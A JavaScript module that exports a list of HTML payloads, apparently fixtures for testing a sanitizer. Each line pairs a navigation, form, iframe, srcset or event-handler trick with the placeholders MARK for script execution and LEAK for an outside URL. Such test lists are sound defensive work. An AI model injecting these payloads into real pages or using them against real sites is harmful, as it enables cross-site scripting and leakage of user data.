// What would lead the page, its opener or a form somewhere else, or send something there.
export default String.raw`
<meta http-equiv=refresh content="0;url=javascript:MARK">
<meta http-equiv=refresh content="0; URL='LEAK'">
<meta http-equiv="&#82;efresh" content=0;LEAK>
<META HTTP-EQUIV=REFRESH CONTENT="1,LEAK">
<noscript><meta http-equiv=refresh content=0;LEAK></noscript>
<base href="LEAK/"><link rel=stylesheet href=y.css><a href=y>y</a>
<base href="LEAK/" target=_top><script src=x.js></script>
<base href="//[::1]:1/"><a href=x>x</a>
<base href="data:text/html,"><a href="x">x</a>
<base href="blob:x"><form action=x><button class=auto>x</button></form>
<base href="about:blank"><a href="javascript&colon;MARK" class=auto>x</a>
<a href="javascript:MARK" target=_top class=auto>x</a>
<a href="javascript:MARK" target=_blank rel=opener class=auto>x</a>
<a href=LEAK target=_blank rel=opener class=auto>x</a>
<a href=LEAK target=stage rel="opener referrer" referrerpolicy=unsafe-url>x</a>
<a href=LEAK download="x.exe" class=auto>x</a>
<a href="javascript:MARK" download=x.html class=auto>x</a>
<a href="https://a.example/" ping="LEAK LEAK" class=auto>x</a>
<a href="https://a.example/" onauxclick=MARK oncontextmenu=MARK class=auto>x</a>
<a href=" javascript:MARK" class=auto>x</a>
<a href="https://user:pass@a.example/" class=auto onclick=MARK>x</a>
<area href="javascript:MARK" class=auto>
<map name=m><area shape=default href="javascript:MARK" class=auto></map><img usemap=#m src=/picture.png onload=MARK>
<form action="javascript:MARK"><input type=submit class=auto></form>
<form action=LEAK id=f></form><input name=x form=f><button form=f class=auto>x</button>
<form method=dialog onsubmit=MARK><button class=auto>x</button></form>
<form><input type=image formaction="javascript:MARK" src=/picture.png class=auto></form>
<form><button type=submit formaction=LEAK formmethod=post formtarget=_top class=auto>x</button></form>
<form onformdata=MARK><button class=auto>x</button></form>
<button popovertarget=p class=auto>x</button><div id=p popover onbeforetoggle=MARK ontoggle=MARK>x</div>
<button commandfor=d command=show-modal class=auto>x</button><dialog id=d onclose=MARK onbeforetoggle=MARK>x</dialog>
<label for=i class=auto>x</label><input id=i onclick=MARK>
<input list=l oninput=MARK autofocus onfocus=MARK><datalist id=l><option value=MARK></datalist>
<iframe name=stage src=LEAK></iframe>
<iframe src="LEAK" sandbox="allow-top-navigation allow-scripts"></iframe>
<iframe src="javascript:parent.MARK" name="javascript:MARK"></iframe>
<iframe srcdoc="<base target=_top><a href=LEAK>x</a><script>parent.MARK</script>"></iframe>
<iframe csp="default-src *" allow="camera *" src=LEAK></iframe>
<object type=text/html data="javascript:parent.MARK"></object>
<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.MARK'/>">
<link rel=canonical href="javascript:MARK"><link rel=next href="javascript:MARK"><link rel=author href="javascript:MARK">
<link rel=expect href=#x blocking=render><link rel=pingback href=LEAK>
<link rel=stylesheet href="data:text/css,body{background:url(LEAK)}">
<script type=speculationrules>{"prefetch":[{"urls":["LEAK"]}]}</script>
<video controls><source src=/picture.png onerror=MARK><track kind=captions src=LEAK default onload=MARK></video>
<img srcset="LEAK 1x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=1 height=1>
<img srcset="data:image/svg+xml,<svg/onload=MARK> 1x, LEAK 2x" width=0 height=0>
<img src="/picture.png" srcset=",,javascript:MARK 1x,,, data:text/html,<script>MARK</script> 2x" onerror=MARK>
<picture><source media="(min-width:0)" srcset="javascript:MARK"><source type=image/svg+xml srcset="data:image/svg+xml,<svg/onload=MARK>"><img src=x onerror=MARK></picture>
<input type=hidden oncontentvisibilityautostatechange=MARK style=content-visibility:auto>
<p oncontentvisibilityautostatechange=MARK style="display:block;content-visibility:auto">x</p>`.trim().split('\n');
